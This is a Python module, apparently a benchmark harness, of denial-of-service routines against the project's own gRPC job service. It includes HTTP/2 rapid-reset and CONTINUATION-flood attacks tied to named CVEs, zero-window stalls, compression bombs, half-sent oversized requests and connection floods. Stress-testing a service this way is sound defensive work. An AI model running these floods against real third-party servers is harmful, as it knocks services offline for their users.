"""Attacks on the gRPC server. Each runs until it is canceled.

No attack has more than 1,500 streams open, over at most 25 connections. Frames are sent directly
where a client library would not send them.
"""

import asyncio
import gzip
import itertools
from collections.abc import Awaitable, Callable
from contextlib import suppress

import grpc
from fleet.jobs.v1 import device_jobs_pb2 as device_pb
from fleet.jobs.v1 import device_jobs_pb2_grpc
from fleet.jobs.v1 import jobs_pb2 as pb

from bench.hostile.frames import TENANT, Connection, connect, length_prefixed, rst_stream
from tests.support import http2

CONNECTIONS = 25
STREAMS = 60  # on each connection

_JOBS = "/fleet.jobs.v1.JobService"
_DEVICE_JOBS = "/fleet.jobs.v1.DeviceJobService"
_GET_JOB = f"{_JOBS}/GetJob"
_LIST_JOBS = f"{_JOBS}/ListJobs"
_CREATE_JOB = f"{_JOBS}/CreateJob"
_HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
_REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

_MIB = 1 << 20

_RESETS_PER_SECOND = 10_000
_RESETS_AT_ONCE = 100

_LOCAL_SUBCHANNELS = (("grpc.use_local_subchannel_pool", 1),)

# Metadata of the size that gRPC accepts by default.
_METADATA_BYTES = 7_000


async def forever() -> None:
    """Keep what has been opened until the attack is canceled."""
    await asyncio.Event().wait()


async def _on_connections(
    address: str,
    attack: Callable[[Connection], Awaitable[None]],
    *,
    connections: int = CONNECTIONS,
    window: int = 65_535,
) -> None:
    """Run the attack on several connections; connect again when the server closes one."""

    async def repeat() -> None:
        while True:
            with suppress(OSError):
                async with connect(address, window) as connection:
                    await attack(connection)
            await asyncio.sleep(0.05)

    await asyncio.gather(*(repeat() for _ in range(connections)))


def _stream_numbers() -> range:
    return range(1, 2 * STREAMS, 2)


async def unread_pages(address: str) -> None:
    """Request pages of 5,000 executions and grant no window for the responses."""
    request = http2.message(pb.GetJobRequest(job_id="j", executions_limit=5000))

    async def attack(connection: Connection) -> None:
        for stream in _stream_numbers():
            connection.open(stream, _GET_JOB)
            await connection.send(stream, request, end=True)
        await forever()

    await _on_connections(address, attack, window=0)


async def large_health_names(address: str) -> None:
    """Watch the health of services with names of 4 MiB, without credentials."""
    await _large_public_messages(address, _HEALTH_WATCH, b"\x0a")


async def large_reflection_names(address: str) -> None:
    """Ask reflection for files with names of 4 MiB, without credentials."""
    await _large_public_messages(address, _REFLECTION, b"\x1a")


async def _large_public_messages(address: str, method: str, tag: bytes) -> None:
    """Send a message with one string of almost 4 MiB in each of 100 streams at a time."""
    size = 4 * _MIB - 100
    varint = bytes([size & 0x7F | 0x80, size >> 7 & 0x7F | 0x80, size >> 14 & 0x7F | 0x80])
    data = length_prefixed(tag + varint + bytes([size >> 21]) + b"x" * size)

    async def attack(connection: Connection) -> None:
        for first in itertools.count(1, 8):
            streams = range(first, first + 8, 2)
            for stream in streams:
                connection.open(stream, method, {})
            await asyncio.gather(*(connection.send(stream, data) for stream in streams))
            if connection.is_closed:
                return
            if method == _HEALTH_WATCH:
                # Streams that the server has accepted stay open.
                await asyncio.wait(
                    [asyncio.create_task(connection.wait_for_end(stream)) for stream in streams]
                )

    await _on_connections(address, attack)


async def resets(address: str) -> None:
    """Open and cancel 10,000 calls a second without credentials (CVE-2023-44487)."""
    await _resets(address, lambda stream: b"", {})


async def resets_of_calls(address: str) -> None:
    """Send and cancel 10,000 calls a second of one tenant that read from the database."""
    request = http2.message(pb.GetJobRequest(job_id="j", executions_limit=10))
    await _resets(
        address,
        lambda stream: http2.frame(http2.DATA, http2.END_STREAM, stream, request),
        TENANT,
    )


async def _resets(
    address: str, data: Callable[[int], bytes], metadata: dict[str, str], connections: int = 4
) -> None:
    interval = _RESETS_AT_ONCE * connections / _RESETS_PER_SECOND

    async def attack(connection: Connection) -> None:
        for batch in itertools.count():
            for stream in range(
                2 * batch * _RESETS_AT_ONCE + 1, 2 * (batch + 1) * _RESETS_AT_ONCE, 2
            ):
                connection.raw.open(stream, _GET_JOB, metadata)
                connection.raw.writer.write(data(stream) + rst_stream(stream))
            await connection.raw.writer.drain()
            if connection.is_closed:
                return
            await asyncio.sleep(interval)

    await _on_connections(address, attack, connections=connections)


async def large_report_ids(address: str) -> None:
    """Send 200 reports with ids of 4 MiB on one stream and read no response."""
    report = device_pb.ReportExecutionsRequest(
        device_id="x" * (4 * _MIB - 100),
        report=device_pb.UpdateExecutionRequest(job_id="j", status=pb.JobExecution.IN_PROGRESS),
    )
    await _unread_reports(address, http2.message(report), connections=1, streams=1)


async def unread_reports(address: str) -> None:
    """Send 200 reports on each of 1,500 streams and read no response."""
    report = device_pb.ReportExecutionsRequest(
        device_id="d0000000",
        report=device_pb.UpdateExecutionRequest(job_id="j", status=pb.JobExecution.IN_PROGRESS),
    )
    await _unread_reports(address, http2.message(report), CONNECTIONS, STREAMS)


async def _unread_reports(address: str, report: bytes, connections: int, streams: int) -> None:
    async def attack(connection: Connection) -> None:
        numbers = range(1, 2 * streams, 2)
        for stream in numbers:
            connection.open(stream, f"{_DEVICE_JOBS}/ReportExecutions")

        async def send(stream: int) -> None:
            for _ in range(200):
                await connection.send(stream, report)

        await asyncio.gather(*map(send, numbers))
        # A stream that the server refused is opened again; others stay open.
        await asyncio.gather(*map(connection.wait_for_end, numbers))

    await _on_connections(address, attack, connections=connections, window=0)


async def compressed_statuses(address: str) -> None:
    """List jobs by 4 million and by 250,000 statuses, compressed to 4 kB, ten times a second."""
    requests = [
        length_prefixed(gzip.compress(_statuses(count)), compressed=True)
        for count in (4_000_000, 250_000)
    ]

    async def attack(connection: Connection) -> None:
        for stream, request in zip(itertools.count(1, 2), itertools.cycle(requests), strict=False):
            connection.open(stream, _LIST_JOBS, TENANT | {"grpc-encoding": "gzip"})
            await connection.send(stream, request, end=True)
            await connection.wait_for_end(stream)
            if connection.is_closed:
                return
            await asyncio.sleep(1)

    await _on_connections(address, attack, connections=10)


def _statuses(count: int) -> bytes:
    return pb.ListJobsRequest(statuses=[pb.Job.COMPLETED] * count).SerializeToString()


async def half_sent_requests(address: str) -> None:
    """Send 4 MiB except the last byte on 100 streams of one tenant."""
    await _half_sent(address, TENANT, connections=25, streams=4)


async def half_sent_requests_without_credentials(address: str) -> None:
    """Send 4 MiB except the last byte on 1,500 streams without credentials."""
    await _half_sent(address, {}, CONNECTIONS, STREAMS)


async def _half_sent(
    address: str, metadata: dict[str, str], connections: int, streams: int
) -> None:
    data = length_prefixed(bytes(4 * _MIB - 5))[:-1]

    async def attack(connection: Connection) -> None:
        numbers = range(1, 2 * streams, 2)
        for stream in numbers:
            connection.open(stream, _CREATE_JOB, metadata)
        await asyncio.gather(*(connection.send(stream, data) for stream in numbers))
        # The server may end calls when it has read too much of them: begin again.
        await asyncio.gather(*map(connection.wait_for_end, numbers))

    await _on_connections(address, attack, connections=connections)


async def large_documents(address: str) -> None:
    """Create jobs with documents of 200 KiB, which exceed the limit, on 1,500 streams."""
    request = pb.CreateJobRequest(document_type="x", target_all=True)
    request.document_params["text"] = "x" * 200_000
    data = http2.message(request)

    async def attack(connection: Connection) -> None:
        for first in itertools.count(1, 2 * STREAMS):
            streams = range(first, first + 2 * STREAMS, 2)
            for stream in streams:
                connection.open(stream, _CREATE_JOB)
            await asyncio.gather(*(connection.send(stream, data, end=True) for stream in streams))
            await asyncio.gather(*map(connection.wait_for_end, streams))
            if connection.is_closed:
                return

    await _on_connections(address, attack)


async def idle_connections(address: str) -> None:
    """Open 600 connections without a call."""

    async def attack(connection: Connection) -> None:
        await connection.wait_for_end()

    await _on_connections(address, attack, connections=600)


async def large_metadata(address: str) -> None:
    """Open 1,500 calls with 7 kB of metadata and without a message."""
    metadata = TENANT | {f"x-text-{n}": "x" * 100 for n in range(_METADATA_BYTES // 140)}

    async def attack(connection: Connection) -> None:
        for stream in _stream_numbers():
            connection.open(stream, _GET_JOB, metadata)
        await connection.raw.writer.drain()
        await asyncio.gather(*map(connection.wait_for_end, _stream_numbers()))

    await _on_connections(address, attack)


async def continuation_frames(address: str) -> None:
    """Send header blocks that never end (CVE-2024-27316)."""
    headers, continuation = 1, 9
    block = http2.headers({"x-text": "x" * 100}) * 100

    async def attack(connection: Connection) -> None:
        connection.raw.writer.write(http2.frame(headers, stream=1, payload=block))
        while not connection.is_closed:
            connection.raw.writer.write(http2.frame(continuation, stream=1, payload=block))
            await connection.raw.writer.drain()
            await asyncio.sleep(0)

    await _on_connections(address, attack)


async def watches_at_once(address: str) -> None:
    """Open 1,500 watches of devices at once, as a bridge does after a network failure."""
    channels = [
        grpc.aio.insecure_channel(address, options=_LOCAL_SUBCHANNELS) for _ in range(CONNECTIONS)
    ]

    async def watch(number: int) -> None:
        stub = device_jobs_pb2_grpc.DeviceJobServiceStub(channels[number % CONNECTIONS])
        metadata = (*TENANT.items(), ("x-device-id", f"d{number:07}"))
        while True:
            with suppress(grpc.aio.AioRpcError):
                stream = stub.WatchPendingExecutions(
                    device_pb.WatchPendingExecutionsRequest(), metadata=metadata
                )
                async for _ in stream:
                    pass
            await asyncio.sleep(1)

    await asyncio.gather(*map(watch, range(CONNECTIONS * STREAMS)))


async def unread_watches(address: str) -> None:
    """Watch a job on 1,500 streams and grant no window for the responses."""
    request = http2.message(pb.WatchJobRequest(job_id="j"))

    async def attack(connection: Connection) -> None:
        for stream in _stream_numbers():
            connection.open(stream, f"{_JOBS}/WatchJob")
            await connection.send(stream, request, end=True)
        await forever()

    await _on_connections(address, attack, window=0)
